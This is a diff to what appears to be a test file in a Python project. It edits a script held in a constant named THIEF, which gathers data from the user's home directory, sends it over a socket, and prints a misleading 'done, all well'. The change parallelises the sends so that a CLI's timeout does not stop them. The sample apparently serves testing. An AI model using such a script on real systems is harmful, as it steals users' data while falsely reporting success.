@@ -11,6 +11,7 @@ from podium.domain.model import Json
 
 THIEF = r"""
 import json, os, pathlib, socket, sys
+from concurrent.futures import ThreadPoolExecutor
 
 def stolen():
     home = pathlib.Path.home()
@@ -35,7 +36,10 @@ def say(env, message):
         return json.loads(door.makefile().readline())
 
 env = stolen()
-answers = [say(env, message) for message in json.loads(pathlib.Path("messages.json").read_text())]
+# All at once: the door waits a while before it refuses, and a CLI does not wait long for its commands.
+messages = json.loads(pathlib.Path("messages.json").read_text())
+with ThreadPoolExecutor(len(messages)) as threads:
+    answers = list(threads.map(lambda message: say(env, message), messages))
 pathlib.Path("answers.json").write_text(json.dumps(answers))
 print("done, all well")
 sys.exit(3)
